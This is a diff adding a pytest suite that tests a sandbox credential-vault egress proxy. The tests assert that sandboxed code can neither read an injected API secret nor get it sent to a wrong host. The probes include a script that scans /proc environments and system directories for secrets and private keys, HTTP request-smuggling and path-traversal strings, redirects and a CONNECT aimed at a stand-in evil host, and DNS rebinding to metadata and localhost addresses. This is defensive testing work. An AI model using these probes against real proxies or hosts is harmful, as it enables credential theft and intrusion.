@@ -1,0 +1,281 @@
+"""Attempts of a sandbox to see a secret of its credential vault, or to have it sent where it does not belong."""
+
+import json
+import os
+import select
+import signal
+import socket
+
+import pytest
+
+from attack import attack, source
+from net_world import entered
+from policy_world import ALLOWED, HOST, OTHER, THIRD
+from tls_sites import Site
+from vault_world import BOUND, EVIL, GATEWAY, INSIDE, PLAIN, POLICY, SECRET, get, inside
+
+pytestmark = [pytest.mark.wall("Credential vaults", second="sandboxes never hold a secret: the egress process puts it in"),
+              pytest.mark.attack(on="native")]
+
+BEARER = f"Bearer {SECRET}"
+
+
+def plain(path="/x", host=BOUND, more="", method="GET", body=""):
+    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n{body}"
+
+
+# --- what is allowed
+
+@pytest.mark.parametrize("client", ["python", "curl"])
+def test_the_secret_arrives_at_its_host_and_is_not_seen_inside(vaults, holder, client):
+    if client == "python":
+        answer = get(holder, f"https://{BOUND}/v1/x?y=z", headers={"Authorization": "Bearer mine", "X-Other": "kept"})
+        said = json.dumps(answer)
+        assert answer["status"] == 200, answer
+    else:
+        said = holder.output(f"curl -sSi -H 'Authorization: Bearer mine' -H 'X-Other: kept' 'https://{BOUND}/v1/x?y=z'")
+        assert "200 OK" in said, said
+    assert SECRET not in said and "[REDACTED]" in said and f"here is {BOUND}" in said
+    seen, = vaults.take(BOUND)
+    assert (seen["path"], seen["headers"]["authorization"], seen["headers"]["x-other"]) == ("/v1/x?y=z", BEARER, "kept")
+
+
+def test_nothing_inside_holds_the_secret_or_a_key(holder):
+    """Environment and arguments of every process that the sandbox can see, and the files of its own layer."""
+    found = attack(holder, """
+needles = [half + rest for half, rest in halves]
+places = glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline')
+for top in ('/opt', '/tmp', '/run', '/var', '/root', '/etc/ssl', '/usr/local/share/ca-certificates'):
+    for directory, _, names in os.walk(top):
+        places += [os.path.join(directory, name) for name in names]
+found = []
+for place in places:
+    try:
+        text = open(place, errors='replace').read(1 << 22)
+    except OSError:
+        continue
+    found += [[place, needle] for needle in needles if needle in text]
+report(found)""", halves=[[SECRET[:8], SECRET[8:]], ["PRIVATE", " KEY"]])
+    assert [each for each in found if not each[0].startswith("/etc/ssl/private")] == []
+
+
+def test_unbound_hosts_keep_their_own_certificate(vaults, holder):
+    ours = inside(holder, f"tls(socket.gethostbyname('{PLAIN}'), '{PLAIN}', verify=False).getpeercert(True).hex()")
+    assert ours == vaults.sites[PLAIN].context.der
+    assert inside(holder, f"tls(socket.gethostbyname('{BOUND}'), '{BOUND}').getpeercert(True).hex()") \
+        != vaults.sites[BOUND].context.der
+
+
+# --- the wrong host
+
+@pytest.mark.parametrize("host", [PLAIN, EVIL, BOUND + ":8443", "other.bound.test", f"{BOUND}, {EVIL}", f"{EVIL}@{BOUND}"])
+def test_a_host_that_differs_from_the_tls_name_is_refused(vaults, holder, host):
+    answer = inside(holder, "raw(address, sni, text)", address=ALLOWED, sni=BOUND, text=plain(host=host))
+    assert answer.startswith(("HTTP/1.1 421", "HTTP/1.1 400")), answer
+    assert vaults.take(BOUND) == []
+
+
+def test_a_bound_host_in_a_request_to_another_server_gets_no_secret(vaults, holder):
+    inside(holder, f"socket.gethostbyname('{EVIL}')")
+    answer = inside(holder, "raw(address, sni, text)", address=THIRD, sni=EVIL, text=plain(host=BOUND))
+    assert answer.startswith("HTTP/1.1 200"), answer
+    seen, = vaults.take(EVIL)
+    assert "authorization" not in seen["headers"]
+
+
+def test_the_address_that_the_sandbox_chose_does_not_count(vaults, holder):
+    """A server of the attacker's behind the bound name: the request goes to the address that we resolved."""
+    inside(holder, f"[socket.gethostbyname(name) for name in ('{EVIL}', '{BOUND}')]")
+    answer = inside(holder, "raw(address, sni, text)", address=THIRD, sni=BOUND, text=plain())
+    assert f"here is {BOUND}" in answer, answer
+    assert vaults.take(EVIL) == [] and vaults.take(BOUND)[0]["headers"]["authorization"] == BEARER
+
+
+def test_plain_http_to_a_host_that_is_bound_for_https_gets_no_secret(vaults, holder):
+    assert get(holder, f"http://{BOUND}/x")["body"] == f"here is http {BOUND}"
+    assert "authorization" not in vaults.take("http " + BOUND)[0]["headers"]
+
+
+def test_a_redirect_to_another_host_carries_no_secret(vaults, holder):
+    said = holder.output(f"curl -sSkL --location-trusted https://{BOUND}/to/{EVIL}")
+    assert f"here is {EVIL}" in said, said
+    assert vaults.take(BOUND)[0]["headers"]["authorization"] == BEARER
+    seen, = vaults.take(EVIL)
+    assert SECRET not in str(seen)
+
+
+def test_a_name_that_turns_into_the_host_or_a_sandbox_gets_no_connection(vaults):
+    """The request is sent from outside the sandbox, where the sandbox's own rules do not hold."""
+    here = Site(None, "the host", "0.0.0.0", 443, vaults.authority.context(BOUND, "turns.bound.test"))
+    policy = {"defaultAction": "deny", "egress": POLICY["egress"] + [{"action": "allow", "target": HOST},
+                                                                     {"action": "allow", "target": "10.96.0.0/16"}]}
+    prisoner = vaults.create(policy)
+    vaults.fill(prisoner, ["turns.bound.test"])
+    for address in (HOST, GATEWAY, prisoner.address, "127.0.0.1", "169.254.169.254"):
+        vaults.point("turns.bound.test", address)
+        inside(prisoner, f"socket.gethostbyname('{PLAIN}')")
+        answer = inside(prisoner, "raw(address, sni, text)", address=OTHER, sni="turns.bound.test",
+                        text=plain(host="turns.bound.test"))
+        assert answer.startswith("HTTP/1.1 502") and "credential binding api" in answer, (address, answer)
+        assert here.seen == [], address
+    here.shutdown()
+    here.server_close()
+    prisoner.remove()
+
+
+@pytest.mark.parametrize("what", ["itself", "expired", "wrong name"])
+def test_a_server_without_a_good_certificate_gets_no_secret(vaults, what):
+    name = f"{what.replace(' ', '-')}.bound.test"
+    vaults.point(name, OTHER)
+    old = vaults.sites[PLAIN].context
+    make = {"itself": {"by_itself": True}, "expired": {"days": -1}, "wrong name": {}}[what]
+    vaults.sites[PLAIN].context = vaults.authority.context(PLAIN if what == "wrong name" else name, **make)
+    prisoner = vaults.create()
+    vaults.fill(prisoner, [name])
+    vaults.take(PLAIN)
+    answer = get(prisoner, f"https://{name}/x")
+    vaults.sites[PLAIN].context = old
+    assert answer["status"] == 502 and "credential binding api" in answer["body"] and "certificate" in answer["body"], answer
+    assert vaults.take(PLAIN) == []
+    prisoner.remove()
+
+
+# --- requests that are read in two ways
+
+@pytest.mark.parametrize("text", [
+    plain(method="POST", more="Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", body="0\r\n\r\nG"),
+    plain(method="POST", more="Content-Length: 1\r\nContent-Length: 2\r\n", body="xx"),
+    plain(method="POST", more="Transfer-Encoding: xchunked\r\n", body="0\r\n\r\n"),
+    plain(method="POST", more="Transfer-Encoding : chunked\r\n", body="0\r\n\r\n"),
+    plain(more="Authorization\x0b: x\r\n"), plain(more=" folded: x\r\n"), plain(more="X: a\x00b\r\n"),
+    plain(path="/v1/../admin"), plain(path="/%2e%2e/admin"), plain(path="/v1\\..\\admin"),
+    plain(method="TRACE"), plain(more=f"Host: {EVIL}\r\n"),
+    f"GET https://{EVIL}/x HTTP/1.1\r\nHost: {BOUND}\r\n\r\n", f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {BOUND}\r\n\r\n",
+    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
+    ids=["cl-te", "two-lengths", "unknown-coding", "space-before-colon", "odd-name", "folded", "nul", "dots", "encoded-dots",
+         "backslashes", "trace", "two-hosts", "absolute", "connect", "http2"])
+def test_a_request_that_servers_read_differently_is_not_sent_with_the_secret(vaults, holder, text):
+    answer = inside(holder, "raw(address, sni, text)", address=ALLOWED, sni=BOUND, text=text)
+    assert answer.startswith(("HTTP/1.1 4", "HTTP/1.1 5")) or answer == "", answer
+    assert vaults.take(BOUND) == []
+
+
+# --- ways around and to the interceptor
+
+def test_quic_is_closed(vaults, holder):
+    inside(holder, f"socket.gethostbyname('{BOUND}')")
+    got = inside(holder, """attempt(lambda: (s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM), s.connect((address, 443)),
+        s.settimeout(10), s.send(b'x'), s.recv(10))[-1].decode())""", address=ALLOWED)
+    assert got in ("ECONNREFUSED", "EACCES", "EHOSTUNREACH"), got
+
+
+def test_the_listener_is_not_reached_directly(vaults, holder):
+    with open(f"/proc/{vaults.daemon.pid}/net/tcp") as table:
+        ports = {int(line.split()[1].split(":")[1], 16) for line in table.readlines()[1:] if line.split()[3] == "0A"}
+    for port in sorted(ports):
+        got = inside(holder, "attempt(lambda: socket.create_connection((address, port), 5) and 'connected')",
+                     address=GATEWAY, port=port)
+        assert got != "connected", port
+
+
+def test_another_sandbox_has_no_part_in_the_vault(vaults, holder):
+    other = vaults.create()
+    assert get(other, f"https://{BOUND}/x", headers={"X-From": "other"})["status"] == 0  # the site's own certificate
+    answer = inside(other, "raw(address, sni, text)", address=ALLOWED, sni=BOUND, text=plain())
+    assert f"here is {BOUND}" in answer
+    assert all("authorization" not in each["headers"] for each in vaults.take(BOUND))
+    assert vaults.vault(other, expect=404) == "credential vault not found\n"
+    other.remove()
+
+
+def test_the_api_of_the_vault_never_tells_a_value(vaults, holder):
+    for path in ("", "/credentials", "/credentials/key", "/bindings", "/bindings/api"):
+        assert SECRET not in json.dumps(vaults.vault(holder, path=path))
+    token = vaults.server.client.get(f"/v1/sandboxes/{holder.id}").json()
+    assert SECRET not in json.dumps(token)
+    got = inside(holder, "[attempt(lambda a=a: socket.create_connection((a, 18080), 5) and 'connected') for a in "
+                 f"('127.0.0.1', '{GATEWAY}')]")
+    assert "connected" not in got
+
+
+def test_a_policy_that_closes_a_bound_host_is_refused(vaults, holder):
+    answer = vaults.server.client.request("DELETE", f"/v1/sandboxes/{holder.id}/networkpolicy", json=["*.bound.test"])
+    assert answer.status_code == 400 and "credential vault" in answer.text, answer.text
+
+
+def test_the_keys_of_the_host_are_roots_alone(vaults, holder):
+    file = vaults.daemon.state / "egress-ca.pem"
+    assert file.stat().st_mode & 0o777 == 0o600 and file.stat().st_uid == 0
+    with open(f"/proc/{egress_pid(vaults)}/status") as status:
+        fields = dict(line.split(":", 1) for line in status.read().splitlines())
+    assert fields["CapEff"].strip() == "0" * 16 and fields["Seccomp"].strip() == "2"
+    assert holder.output("ls /proc | grep -c '^[0-9]' || true").strip() != "0"
+    assert holder.run(f"cat {file}")[0] != 0
+    with entered(vaults.internet.pid), socket.socket() as probe:
+        probe.settimeout(5)
+        assert probe.connect_ex((HOST, 15380)) != 0
+
+
+# --- changes, and restarts: the last ones, since they empty the vaults of all sandboxes
+
+def test_rotation_and_removal_hold_for_open_connections(vaults):
+    prisoner = vaults.create()
+    vaults.fill(prisoner, value="first-value")
+    program = f"""
+connection = http.client.HTTPSConnection('{BOUND}', timeout=60)
+for turn in range(3):
+    open('/tmp/go').read()
+    connection.request('GET', f'/turn-{{turn}}')
+    answer = connection.getresponse()
+    answer.read()
+    open('/tmp/done', 'w').write(str(answer.status))
+"""
+    prisoner.output("mkfifo /tmp/go /tmp/done; cat > /tmp/program <<'END'\n" + source(INSIDE + program, {}) + "\nEND\nsetsid python3 /tmp/program "
+                    ">/tmp/said 2>&1 < /dev/null & echo started")
+    steps = [lambda: None,
+             lambda: vaults.vault(prisoner, "PATCH", {"credentials": {"replace": [{"name": "key", "source": {"value": "second"}}]}}),
+             lambda: vaults.vault(prisoner, "PATCH", {"bindings": {"delete": ["api"]}})]
+    vaults.take(BOUND)
+    for turn, step in enumerate(steps):
+        step()
+        said = prisoner.output("timeout 100 sh -c 'echo > /tmp/go; cat /tmp/done' || cat /tmp/said")
+        assert said.strip() == "200", (turn, said)
+    seen = {each["path"]: each["headers"].get("authorization") for each in vaults.take(BOUND)}
+    assert seen == {"/turn-0": "Bearer first-value", "/turn-1": "Bearer second", "/turn-2": None}
+    prisoner.remove()
+
+
+def egress_pid(vaults):
+    """Of the daemon's egress process."""
+    children = open(f"/proc/{vaults.daemon.pid}/task/{vaults.daemon.pid}/children").read().split()
+    return next(int(each) for each in children if "egress" in open(f"/proc/{each}/cmdline").read())
+
+
+@pytest.mark.parametrize("who", ["egress", "sandboxd"])
+def test_a_vault_that_lost_its_values_refuses_until_it_is_filled_again(vaults, who):
+    prisoner = vaults.create()
+    vaults.fill(prisoner)
+    assert get(prisoner, f"https://{BOUND}/before")["status"] == 200
+    assert "missingValues" not in vaults.vault(prisoner)
+    if who == "egress":
+        process = os.pidfd_open(egress_pid(vaults))
+        signal.pidfd_send_signal(process, signal.SIGKILL)
+        select.select([process], [], [])  # until it has ended
+        os.close(process)
+    else:
+        vaults.daemon.kill()
+        vaults.daemon.start()
+    vaults.take(BOUND)
+    while (answer := vaults.server.client.get(f"/v1/sandboxes/{prisoner.id}/credential-vault")).status_code == 503:
+        pass  # it is being started
+    state = answer.json()
+    assert state["missingValues"] == ["key"] and state["revision"] == 1 and state["bindings"][0]["name"] == "api", state
+    answer = get(prisoner, f"https://{BOUND}/lost")
+    assert answer["status"] == 502 and "api" in answer["body"], answer
+    assert vaults.take(BOUND) == []
+    vaults.vault(prisoner, "PATCH", {"credentials": {"replace": [{"name": "key", "source": {"value": SECRET}}]}})
+    assert "missingValues" not in vaults.vault(prisoner)
+    assert get(prisoner, f"https://{BOUND}/after")["status"] == 200
+    assert vaults.take(BOUND)[0]["headers"]["authorization"] == BEARER
+    assert vaults.secrets_seen(prisoner) == []
+    prisoner.remove()
